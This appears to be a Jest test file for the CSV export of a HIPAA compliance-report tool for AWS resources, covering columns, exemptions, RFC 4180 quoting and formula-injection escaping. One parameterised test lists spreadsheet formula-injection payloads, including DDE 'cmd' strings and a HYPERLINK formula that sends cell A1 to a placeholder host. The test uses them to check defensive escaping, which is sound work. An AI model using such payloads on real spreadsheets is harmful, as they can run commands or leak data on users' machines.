import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, toCsv } from '../../../functions/reports/csv.js';
import { CATALOG } from '../../../rules/catalog.js';
import type { Evaluation } from '../../../rules/types.js';
import { mixedEvaluations } from '../../helpers/reports.js';

const rowsOf = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<(typeof CSV_COLUMNS)[number], string>[];

describe('toCsv', () => {
  test('one row per evaluation under a header row, with rule title and HIPAA citations from the catalog', () => {
    const evaluations = mixedEvaluations();
    const csv = toCsv(evaluations, CATALOG);
    const rows = rowsOf(csv);
    expect(rows).toHaveLength(evaluations.length);
    expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS]);
    expect(rows[1]).toEqual({
      'rule id': 'ebs-volume-encrypted',
      'rule title': 'EBS volumes are encrypted at rest',
      'HIPAA citations': '164.312(a)(2)(iv); 164.312(e)(2)(ii)',
      severity: 'HIGH',
      'resource type': 'AWS::EC2::Volume',
      'resource id': 'vol-0000000000000bbbb',
      'resource name': '',
      account: '264683526309',
      Region: 'us-east-1',
      compliance: 'NON_COMPLIANT',
      annotation: 'EBS volume is not encrypted (encrypted = false).',
      exemption: '',
      'exemption reason': '',
      'exemption until': '',
    });
    expect(rows.map((row) => row.compliance)).toEqual(evaluations.map((e) => e.compliance));
  });

  test('exemptions: in force with reason and until, expired and malformed marked as ignored', () => {
    const rows = rowsOf(toCsv(mixedEvaluations(), CATALOG));
    const exemptions = rows.map((row) => [row['resource id'], row.exemption, row['exemption reason'], row['exemption until']]);
    expect(exemptions.slice(2, 5)).toEqual([
      ['vol-0000000000000cccc', 'in force', 'lab scratch disk', '2026-12-31'],
      ['vol-0000000000000dddd', 'expired, ignored', 'migration', '2026-11-01'],
      ['vol-0000000000000eeee', 'malformed (the tag gives no reason), ignored', '', ''],
    ]);
  });

  test('RFC 4180: UTF-8 with a byte-order mark, CRLF line ends, quotes doubled, line breaks and commas kept inside quotes', () => {
    const [evaluation] = mixedEvaluations() as [Evaluation];
    const tricky = { ...evaluation, resourceName: 'Zürich "main", café', annotation: 'first line\nsecond, "quoted" line' };
    const csv = toCsv([tricky], CATALOG);
    expect(csv.startsWith('\uFEFF"rule id",')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
    expect(csv).toContain('"Zürich ""main"", café"');
    expect(Buffer.from(csv, 'utf8').toString('utf8')).toBe(csv);
    expect(rowsOf(csv)[0]).toMatchObject({ 'resource name': 'Zürich "main", café', annotation: 'first line\nsecond, "quoted" line' });
  });

  test.each([
    ['=HYPERLINK("https://example.invalid/?"&A1,"open")'],
    ["+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\uFF1D1+1'],
  ])('a value starting like a formula (%j) opens as text: a leading apostrophe', (value) => {
    const [evaluation] = mixedEvaluations() as [Evaluation];
    const hostile = { ...evaluation, resourceId: value, resourceName: value, annotation: value, accountId: value, region: value };
    const [row] = rowsOf(toCsv([hostile], CATALOG));
    for (const column of ['resource id', 'resource name', 'annotation', 'account', 'Region'] as const) expect(row?.[column]).toBe(`'${value}`);
  });

  test('a value with a formula character later on is left as it is', () => {
    const [evaluation] = mixedEvaluations() as [Evaluation];
    const [row] = rowsOf(toCsv([{ ...evaluation, annotation: 'Key alias=clinic-data, +1 day, -2 hours, user@example.com' }], CATALOG));
    expect(row?.annotation).toBe('Key alias=clinic-data, +1 day, -2 hours, user@example.com');
  });

  test('no evaluations: the header row alone', () => {
    expect(toCsv([], CATALOG)).toBe(`\uFEFF${CSV_COLUMNS.map((c) => `"${c}"`).join(',')}\r\n`);
  });
});
